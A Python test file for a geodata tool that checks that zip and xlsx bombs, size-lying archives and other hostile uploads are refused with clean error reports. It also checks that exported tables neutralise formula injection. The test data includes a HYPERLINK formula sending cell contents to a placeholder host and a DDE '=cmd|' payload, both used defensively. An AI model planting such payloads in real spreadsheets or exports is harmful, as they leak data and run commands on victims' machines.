"""Hostile and broken files: refused within stated limits, reported, never a traceback.

The bombs are built by ``tests/fixtures/hostile.py`` at a small scale, with the limits of
``geo.io.limits`` lowered to match, so that each case runs in a fraction of a second.
"""

from __future__ import annotations

import json
import math
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import DEFAULT_TOML, default_sites, default_townships
from fixtures.hostile import lying_zip, shapefile_zip, zip_of
from shapely.geometry import Polygon

from geo.cli.commands import main
from geo.errors import DatasetError
from geo.export.tables import csv_bytes, report_table, township_table, write_xlsx
from geo.io import limits
from geo.io.load import load_dataset
from geo.io.readers import read_layer
from geo.io.templates import template_xlsx
from geo.io.uploads import UploadError, unpack_upload
from geo.summary import summarize
from geo.text.cells import inert_frame, inert_text

MiB = 1024 * 1024


def _validate(folder: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(["validate", str(folder), "--lang", "en"])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


# --- limits of the read path ---------------------------------------------------------------


def test_a_dbf_bomb_in_a_zipped_shapefile_is_refused_by_its_declared_size(
    make_dataset_folder: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", MiB)
    folder = make_dataset_folder(omit=("townships",))
    shapefile_zip(default_townships(), folder / "townships.shp.zip", dbf_padding=2 * MiB)
    code, report = _validate(folder, capsys)
    assert code == 2
    assert "townships.shp.zip: the member 'townships.dbf' unpacks to 2.0 MB" in report
    assert "limit of 1.0 MB" in report


def test_a_member_packed_beyond_the_ratio_is_refused(tmp_path: Path) -> None:
    path = shapefile_zip(default_townships(), tmp_path / "townships.shp.zip", dbf_padding=3 * MiB)
    with pytest.raises(DatasetError) as caught:
        read_layer(path)
    (problem,) = caught.value.problems
    assert (problem.code, problem.file, problem.params["member"]) == (
        "zip_ratio",
        "townships.shp.zip",
        "townships.dbf",
    )
    assert "200:1" in problem.message("en")


def test_padding_within_the_limits_reads_the_declared_records(tmp_path: Path) -> None:
    path = shapefile_zip(default_townships(), tmp_path / "townships.shp.zip", dbf_padding=4096)
    frame = read_layer(path)
    assert frame["name"].tolist() == ["一镇", "二镇"]


def test_a_shapefile_zip_that_lies_about_its_sizes(tmp_path: Path) -> None:
    good = tmp_path / "good.shp.zip"
    shapefile_zip(default_townships(), good)
    with zipfile.ZipFile(good) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    members["townships.dbf"] += b" " * 100_000
    path = tmp_path / "townships.shp.zip"
    path.write_bytes(lying_zip(members, claimed_size=1000))
    with pytest.raises(DatasetError) as caught:
        read_layer(path)
    (problem,) = caught.value.problems
    assert problem.code in {"zip_member_damaged", "zip_invalid"}
    assert problem.file == "townships.shp.zip"


def test_a_csv_over_the_size_limit_is_refused_before_it_is_read(
    make_dataset_folder: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 100)
    folder = make_dataset_folder()
    code, report = _validate(folder, capsys)
    assert code == 2
    assert "demand.csv: the file is" in report and "over the limit of 0.0 MB" in report


def test_an_oversized_dataset_toml_is_refused(
    make_dataset_folder: Callable[..., Path],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder = make_dataset_folder(toml=DEFAULT_TOML + "#" * 5000 + "\n")
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 4096)
    code, report = _validate(folder, capsys)
    assert code == 2
    assert "dataset.toml: the file is" in report


@pytest.mark.parametrize(
    ("members", "code", "member"),
    [
        ({"d/x": b"1", "d/x/y": b"2"}, "zip_path_conflict", "d/x"),
        ({"d/" + "长" * 100 + ".csv": b"1"}, "zip_name_too_long", None),
        ({f"f{i}.csv": b"" for i in range(6)}, "zip_too_many", None),
    ],
)
def test_upload_zips_beyond_a_limit_name_the_file_and_the_limit(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    members: dict[str, bytes],
    code: str,
    member: str | None,
) -> None:
    monkeypatch.setattr(limits, "MAX_MEMBERS", 5)
    with pytest.raises(UploadError) as caught:
        unpack_upload([("村居.zip", zip_of(members))], tmp_path)
    problem = caught.value.problem
    assert problem is not None and (problem.code, problem.file) == (code, "村居.zip")
    if member is not None:
        assert problem.params["member"] == member
    assert "村居.zip" in caught.value.message("zh") and caught.value.message("en")


def test_an_upload_that_lies_about_its_sizes_fails_cleanly(tmp_path: Path) -> None:
    forged = lying_zip({"dataset.toml": b"#" * 200_000}, claimed_size=10)
    with pytest.raises(UploadError) as caught:
        unpack_upload([("data.zip", forged)], tmp_path)
    assert caught.value.problem is not None
    assert caught.value.problem.code == "zip_member_damaged"
    assert "dataset.toml" in caught.value.message("en")


def test_an_upload_claiming_more_than_the_archive_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "MAX_ARCHIVE_BYTES", 1000)
    archive = zip_of({"a.csv": b"1" * 600, "b.csv": b"2" * 600})
    with pytest.raises(UploadError) as caught:
        unpack_upload([("data.zip", archive)], tmp_path)
    assert caught.value.problem is not None and caught.value.problem.code == "zip_too_big"


def test_an_uploaded_file_name_over_255_bytes(tmp_path: Path) -> None:
    with pytest.raises(UploadError) as caught:
        unpack_upload([("村" * 90 + ".csv", b"id\n")], tmp_path)
    assert caught.value.problem is not None
    assert caught.value.problem.code == "zip_name_too_long"


def test_an_xlsx_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "sites.xlsx"
    pd.concat([default_sites()] * 2000).to_excel(path, index=False)
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", path.stat().st_size + 1)
    with pytest.raises(DatasetError) as caught:
        read_layer(path)
    assert caught.value.problems[0].code == "zip_member_too_big"


# --- errors that used to escape as tracebacks --------------------------------------------


def test_a_nan_coordinate_in_a_township_ring(
    make_dataset_folder: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    townships = default_townships()
    ring = [(118.3, 33.8), (118.4, 33.8), (118.4, math.nan), (118.3, 33.9)]
    with np.errstate(invalid="ignore"):
        townships.loc[0, "geometry"] = Polygon(ring)
    folder = make_dataset_folder(townships=townships, formats={"townships": "gpkg"})
    code, report = _validate(folder, capsys)
    assert code == 2
    assert "townships.gpkg, feature 1, column 'geometry'" in report
    assert "NaN" in report


def test_a_group_weight_that_would_overflow_the_funding(
    make_dataset_folder: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = make_dataset_folder(toml=DEFAULT_TOML.replace("weight = 2.0", "weight = 1e305"))
    code, report = _validate(folder, capsys)
    assert code == 2
    assert "groups[2].weight" in report and "from 0 to 1000" in report


def test_degrees_under_a_declared_projected_crs_are_an_error(
    make_dataset_folder: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    townships = default_townships().set_crs("EPSG:3857", allow_override=True)
    folder = make_dataset_folder(townships=townships, formats={"townships": "gpkg"})
    code, report = _validate(folder, capsys)
    assert code == 2
    assert "townships.gpkg: the file declares EPSG:3857" in report


def test_summary_json_carries_the_warnings(
    make_dataset_folder: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    sites = default_sites()
    sites.loc[2, ["lon", "lat"]] = ["118.9", "33.85"]  # S3 outside both townships
    folder = make_dataset_folder(sites=sites)
    assert main(["summary", str(folder), "--json", "--lang", "en"]) == 0
    doc = json.loads(capsys.readouterr().out)
    (warning,) = doc["warnings"]
    assert warning["code"] == "outside_townships" and warning["file"] == "sites.csv"
    assert set(warning) == {"code", "file", "row", "column", "message"}
    assert "S3" in warning["message"]
    assert doc["unassigned"]["sites"] == ["S3"]


# --- formula injection ---------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+1,234", "+1,234"),
        ("一镇", "一镇"),
        (-12.5, -12.5),
        (None, None),
    ],
)
def test_inert_text(cell: object, expected: object) -> None:
    assert inert_text(cell) == expected


def test_inert_frame_keeps_numbers_numbers() -> None:
    frame = pd.DataFrame({"=name": ["=1+1", "ok"], "amount": [-5, 3], "share": [-0.5, np.nan]})
    out = inert_frame(frame)
    assert out.columns.tolist() == ["'=name", "amount", "share"]
    assert out["'=name"].tolist() == ["'=1+1", "ok"]
    assert out["amount"].dtype == frame["amount"].dtype and out["amount"].tolist() == [-5, 3]
    assert frame["=name"].tolist() == ["=1+1", "ok"]  # the input is not changed


def test_no_live_formula_in_the_exported_tables(
    make_dataset_folder: Callable[..., Path], tmp_path: Path
) -> None:
    townships = default_townships()
    townships.loc[0, "name"] = "=1+1"
    sites = default_sites()
    sites.loc[0, "name"] = HOSTILE
    folder = make_dataset_folder(townships=townships, sites=sites, omit=("projects",))
    dataset = load_dataset(folder)
    summary = summarize(dataset)
    book = openpyxl.load_workbook(write_xlsx(summary, tmp_path / "t.xlsx"))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'=1+1" in texts and "'" + HOSTILE in texts
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert numbers and all(not isinstance(v, str) for v in numbers)
    csv = csv_bytes(township_table(summary)).decode("utf-8-sig")
    assert "\r\n321311001,'=1+1," in csv
    siting_like = report_table(pd.DataFrame({"名称": [HOSTILE], "差额": [-300]}), "x")
    quoted = "'" + HOSTILE.replace('"', '""')
    assert csv_bytes(siting_like).decode("utf-8-sig").endswith(f'"{quoted}",-300\r\n')


def test_templates_do_not_carry_formulas_from_group_labels(tmp_path: Path) -> None:
    from geo.dataset import Group

    groups = (Group("g", "=cmd|' /C calc'!A0", 1000.0),)
    path = tmp_path / "demand.xlsx"
    path.write_bytes(template_xlsx("demand", groups))
    sheet = openpyxl.load_workbook(path).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert "'=cmd|' /C calc'!A0" in [c.value for c in sheet[1]]
